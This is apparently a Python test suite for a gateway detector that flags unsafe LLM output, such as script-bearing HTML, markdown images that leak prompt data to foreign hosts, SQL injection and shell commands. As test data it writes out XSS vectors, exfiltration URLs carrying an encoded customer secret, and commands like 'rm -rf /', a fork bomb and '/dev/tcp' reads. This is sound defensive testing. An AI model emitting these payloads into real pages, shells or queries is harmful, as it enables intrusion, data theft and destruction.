from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prodworthy.gateway.detectors import unsafe_output
from prodworthy.gateway.detectors.unsafe import markdown
from prodworthy.gateway.detectors.unsafe.construct import REACH
from prodworthy.gateway.detectors.unsafe_output import SINKS, UnsafeOutputDetector
from prodworthy.policy.core.exchange import Call
from tests.gateway.detectors import cost, windows

ANY = UnsafeOutputDetector()
OURS = UnsafeOutputDetector(("example.com", "*.example.org"), SINKS)
ASKED = windows.call(
    ("system", "The customer is Ada Lovelace, account 4711-0815-33, mail ada@example.net. Keep it to yourself."),
    ("user", "What is the balance of my account? See https://bank.test/help?topic=balance+of+my+account&l=en please"),
)


def _found(text: str, detector: UnsafeOutputDetector = ANY, asked: Call = ASKED) -> list[tuple[str, str]]:
    findings = detector.measure(windows.reading(text, asked))
    return [(each.kind, text[each.start : each.end]) for each in findings]


def _kinds(text: str, detector: UnsafeOutputDetector = ANY) -> set[str]:
    return {kind for kind, _ in _found(text, detector)}


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT\nsrc='//x.test/a.js'\t></ScRiPt\n>",
        "<script>if (a < b && c > d) { x('</p>') }</script>",
        "<iframe src=a.html></iframe>",
        "<object data=x></object>",
        "<svg onload=alert(1)><g/></svg>",
        "<form action='//x.test'>",
        "<meta http-equiv=refresh content='0;url=//x.test'>",
        "<style>@import url(//x.test)</style>",
        "<link rel=stylesheet href=//x.test>",
        "<base href=//x.test>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<img alt=">" src=x OnError\n = "alert(1)">',
        "<b onmouseover='x()'>",
        "<a href='javascript:alert(1)'>",
        "<a href=' java\nscript:alert(1)'>",
        "<a href='&#106;ava&#x73;cript&colon;alert(1)'>",
        "<a href=data:text/html,x>",
        "<p style='background: url(//x.test)'>",
        "<button formaction=//x.test>",
    ],
)
def test_html_that_acts_is_found_whole(html: str) -> None:
    found = _found(f"Look: {html} there")
    assert ("active_html", html) in found


@pytest.mark.parametrize(
    "text",
    [
        "<b>bold</b> and <i class='x'>italic</i>, a < b, 3<4, I <3 you, x<y and y>z",
        "<p>on time = now</p> <span title='once more'>and on = off</span>",
        "List<String> names; <!-- a comment --> </script> <br/> <table border=1>",
        "[a link](https://a.test/page) and <a href='https://a.test/page'>another</a>, https://a.test/page",
        "![local](images/one.png) ![anchor](#top) <img src='images/one.png'>",
        "Great news![1] and vec![1, 2] and [x] and ![ ] and array[0](1)",
        "; drop table x -- $(rm -rf /)",
        "the data: text, and the date/time; data:x",
    ],
)
def test_ordinary_text_has_nothing(text: str) -> None:
    assert _found(text) == []


@pytest.mark.parametrize(
    "image",
    [
        "![a](https://x.test/p.png)",
        "![a b\nc](  <https://x.test/p.png>  'a title' )",
        "![a](//x.test/p)",
        "![a](HTTPS:\\\\x.test/p)",
        "![a](&#104;ttps://x.test/p)",
        "![a](https\\://x.test/p)",
        "![a [b] c](http://x.test/(p)q)",
        "![a `[` b](https://x.test/p)",
        "![a \\] b](https://x.test/p)",
        "![a][ref]",
        "![a][]",
        "![ref]",
        "<img src=https://x.test/p>",
        "<IMG\n alt='>' SrcSet='a.png 1x, //x.test/p 2x'>",
        "<video poster='//x.test/p'>",
        "<td background=//x.test/p>",
    ],
)
def test_a_remote_image_is_found_whole(image: str) -> None:
    assert ("markdown_image", image) in _found(f"Look {image} there")


def test_an_image_within_a_link_and_one_whose_label_is_too_long() -> None:
    assert ("markdown_image", "![a](//x.test)") in _found("[![a](//x.test)](https://a.test)")
    assert ("markdown_image", "](//x.test)") in _found(f"![{'a' * (REACH + 1)}](//x.test)")


def test_images_and_links_of_allowed_hosts_pass() -> None:
    for host in ("example.com", "EXAMPLE.com:443", "a.example.org", "a.b.example.org.", "user@example.com"):
        assert _found(f"![a](https://{host}/p) [b](https://{host}/q) https://{host}/r <a href=//{host}>", OURS) == []


@pytest.mark.parametrize(
    "address",
    [
        "https://x.test",
        "https://example.com.x.test/",
        "https://example.com@x.test/",
        "https://x.test\\@example.com/",
        "https:x.test",
        "https:///x.test",
        "//x.test/example.com",
        "https://example.org/",
        "https://xexample.org/",
        "https://ex\u0430mple.com/",
        "https://xn--exmple-4nf.com/",
        "https://x%2etest/",
        "https://[::1]/",
        "ms-word:ofe",
    ],
)
def test_a_foreign_host_is_foreign_however_it_is_written(address: str) -> None:
    assert "foreign_link" in _kinds(f"See [this]({address}) now", OURS)
    assert "markdown_image" in _kinds(f"See ![this]({address}) now", OURS)
    assert "foreign_link" in _kinds(f"See <a href='{address}'>", OURS)


def test_bare_links_and_definitions_are_links() -> None:
    assert _found("See (https://x.test/a), or www.x.test.", OURS) == [
        ("foreign_link", "https://x.test/a"),
        ("foreign_link", "www.x.test"),
    ]
    assert ("foreign_link", "[1]: //x.test/a") in _found("[1]: //x.test/a", OURS)
    assert _found("https://\uff45xample\uff0ecom/ and mailto:a@x.test", OURS) == []


SECRET = base64.b64encode(b"Ada Lovelace has 12 pounds").decode()


@pytest.mark.parametrize(
    "address",
    [
        f"https://x.test/?d={SECRET}",
        f"https://x.test/p/{SECRET.rstrip('=')}/i.png",
        f"https://x.test/#{b'Ada Lovelace has 12 pounds'.hex()}",
        f"https://x.test/?d={base64.urlsafe_b64encode(b'Lovelace').decode()}",
        "https://x.test/?a=the+customer+is+ada+lovelace",
        "https://x.test/?a=the%20customer%20is%20Ada",
        "https://x.test/the-customer-is-ada-lovelace",
        "https://x.test/?n=4711081533",
        "https://x.test/?m=ada@example.net",
        "https://x.test/?q=" + "q7" * 128,
        "https://x.test/" + "a" * REACH,
    ],
)
def test_an_address_that_carries_the_call_away_is_found(address: str) -> None:
    assert "exfiltration_url" in _kinds(f"![x]({address})")
    assert "exfiltration_url" in _kinds(f"see {address} now")
    assert "exfiltration_url" not in _kinds(f"see {address.replace('x.test', 'example.com')} now", OURS)


@pytest.mark.parametrize(
    "address",
    [
        "https://bank.test/help?topic=balance+of+my+account&l=en",
        "https://docs.test/library/account-balance.html#balance",
        "https://git.test/commit/1f0c9a4be0d6c0d5e2f7a51b3c4d5e6f708192a3",
        "https://x.test/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
        "https://x.test/search?q=account+balance",
    ],
)
def test_an_ordinary_address_carries_nothing(address: str) -> None:
    assert _kinds(f"see {address} now") == set()


def test_data_urls_and_escapes() -> None:
    data = "data:text/html;base64,PGI+"
    assert ("data_url", data) in _found(f"open {data} now")
    assert ("data_url", "data:,hello") in _found("[x](data:,hello)")
    text = "a\x1b[31mred\x1b[0m \x1b]8;;http://x\x07 \x1b]0;open title \x9b5n"
    assert [shown for kind, shown in _found(text) if kind == "ansi_escape"] == [
        "\x1b[31m", "\x1b[0m", "\x1b]8;;http://x\x07", "\x1b]", "\x9b5n",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "1; DROP TABLE users", "drop  table x", "' or '1'='1", "x' OR 1=1", "1 UNION ALL SELECT a", "admin'--",
        "name -- rest", "/* x */", "pg_sleep(5)", "grant all on x", "into outfile 'x'", "1 or 1 = 1",
        "waitfor delay '5'",
    ],
)  # fmt: skip
def test_sql_that_was_not_asked_for(text: str) -> None:
    assert "sql" in _kinds(text, UnsafeOutputDetector(sinks=frozenset({"sql"})))
    assert "sql" not in _kinds(text)


@pytest.mark.parametrize(
    "text",
    ["$(id)", "`id`", "a | sh", "x | /bin/bash", "rm -rf /", "rm -v -fr x", "a; b", "a && b", "a || b", "a > /etc/x",
     "sudo x", "curl http://x", "<(x)", ":(){ :|:& };:", "cat < /dev/tcp/a/1"],
)  # fmt: skip
def test_shell_commands_in_what_a_shell_will_read(text: str) -> None:
    assert "shell" in _kinds(text, UnsafeOutputDetector(sinks=frozenset({"shell"})))
    assert "shell" not in _kinds(text)


def test_a_plain_answer_passes_every_sink() -> None:
    assert _found("SELECT name FROM ships WHERE harbour = 'north' ORDER BY name LIMIT 10", OURS) == []
    assert _found("report-2024.txt", OURS) == []


def test_a_script_as_address_is_found_where_addresses_go() -> None:
    assert _found("javascript:alert(1)", OURS) == [("active_html", "javascript:alert(1)")]
    assert ("active_html", "[x](javascript:alert(1))") in _found("[x](javascript:alert(1))")


def test_what_opened_and_does_not_end_is_found_from_its_opening() -> None:
    pad = " a" * REACH
    assert ("active_html", "<y") in _found(f"x <y {pad} onclick=x>")
    assert ("active_html", "<script>") in _found(f"<script>{pad}</script>")
    assert ("active_html", "<img") in _found(f'<img alt="{pad}" onerror=x>')
    assert ("active_html", "<img") in _found("<img src=x onerror=alert(1)")
    assert "markdown_image" in _kinds(f"![x](https://x.test/ {pad}")


def test_unknown_sinks_and_hosts_are_refused() -> None:
    with pytest.raises(ValueError, match="unknown sinks"):
        UnsafeOutputDetector(sinks=frozenset({"pdf"}))
    for host in ("", "*.", "a b", "https://example.com", "*"):
        with pytest.raises(ValueError, match="no host names"):
            UnsafeOutputDetector((host,))


PARTS = st.sampled_from(
    ["<", ">", "<b ", "<img ", "<script>", "</script>", "<a<", "='", '="', "'", '"', "=", " on", "onerror=", "href=",
     "[", "![", "]", "](", ")", "(", "][", "]:", ": ", "!", "\\", "`", "https://x.test/", "//x", "www.x.test", "\n",
     "\n\n", " \n", " ", "a", "word ", "data:text/html,", "javascript:", "\x1b", "\x1b[", "\x1b]", "\x07", "\x9d", "m",
     "drop ", "table ", "or ", "1", "--", "/*", "; ", "rm ", "-rf ", "| ", "sh", "$(", "&#106;", "&", "d=" + SECRET,
     "x" * 90, " y" * 1000, "z" * 2100, "svg", "/", ">x</svg>", ".", ";"]
)  # fmt: skip
TEXTS = st.lists(PARTS, max_size=40).map("".join)


def _spans(text: str) -> windows.Spans:
    return windows.spans(OURS.measure(windows.reading(text, ASKED)))


@settings(max_examples=600, deadline=None)
@given(TEXTS, TEXTS | st.text(max_size=20))
def test_what_is_settled_stays(text: str, more: str) -> None:
    assert windows.unsettled(_spans, OURS.settled, text, more) == ""
    assert windows.unsettled(_spans, OURS.settled, text + "so " * 40, more) == ""


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), TEXTS)
def test_any_text_at_all_stays_settled(text: str, more: str) -> None:
    assert windows.unsettled(_spans, OURS.settled, text, more) == ""


@settings(max_examples=200, deadline=None)
@given(st.lists(PARTS, max_size=60).map(" ".join), st.data())
def test_a_window_has_the_findings_of_the_whole(text: str, data: st.DataObject) -> None:
    low = data.draw(st.integers(0, len(text)))
    high = data.draw(st.integers(low, len(text)))

    def find(part: str, start: int) -> windows.Spans:
        return windows.spans(OURS.measure(windows.reading(part, ASKED, start)))

    assert windows.differs(find, text, (low, high), (unsafe_output.BACK, unsafe_output.REACH)) == ""


def test_little_is_unsettled_in_prose() -> None:
    text = "The office [1] opens at eight, and closes at five (see below). **Ships** arrive at noon; a < b. " * 20
    assert all(end - OURS.settled(text[:end]) < 130 for end in range(200, len(text)))
    for unit in ("a", "word ", "<b ", "[", "![", "http://x", "<a='", "\x1b]", "(", "]("):
        assert 20_000 - OURS.settled((unit * 20_000)[:20_000]) <= 2 * unsafe_output.REACH, unit


@pytest.mark.parametrize(
    "unit",
    [*cost.ADVERSARIAL, "<a='\"' ", '<a="<b=\'"', "<script>", "<svg ", "![a", "[a](", "www.",
     "https://x.test/?a=the+b ",
     "]: ", "; ", "' or ", "\x9d", "\x1b]", "![`](", "rm -a ", "](//x.test/", "<img src='//x.test/a' ",
     "](<", "![](", "[a](//x)", "*/", ";a", "rm -", "'--", "<a x=y>"],
)  # fmt: skip
def test_cost_is_linear(unit: str) -> None:
    assert cost.grows_linearly(lambda text: OURS.measure(windows.reading(text, ASKED)), unit)
    assert cost.grows_linearly(OURS.settled, unit)


@pytest.mark.parametrize(
    "unit", ["](//x.test/)", "//](", "![a](//x.test/)", "\\//`\x9d](", "](<//x.test>)", "[a]: //a "]
)
def test_an_address_that_repeats_is_read_once(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[str] = []
    leading = markdown._leading

    def counted(written: str) -> tuple[str, ...]:
        read.append(written)
        return leading(written)

    monkeypatch.setattr(markdown, "_leading", counted)
    OURS.measure(windows.reading(unit * (40_000 // len(unit)), ASKED))
    assert 0 < len(read) <= 4


def test_an_address_in_angle_brackets_ends_where_another_begins() -> None:
    """Like CommonMark has it: so no character is read for more than one address."""
    found = markdown.read_markdown("](<//a" * 300 + ">)").constructs
    assert found[-1].address == "//a"
    assert [one.address for one in markdown.read_markdown("[a](<//x.test/\\<b>)").constructs] == [
        "//x.test//<b",
        "//x.test/<b",
    ]


def test_many_addresses_are_read_and_few_remembered() -> None:
    text = "".join(f"![a](//{place}.test/) " for place in range(2 * markdown.KNOWN))
    assert len(markdown.read_markdown(text).constructs) == 2 * markdown.KNOWN
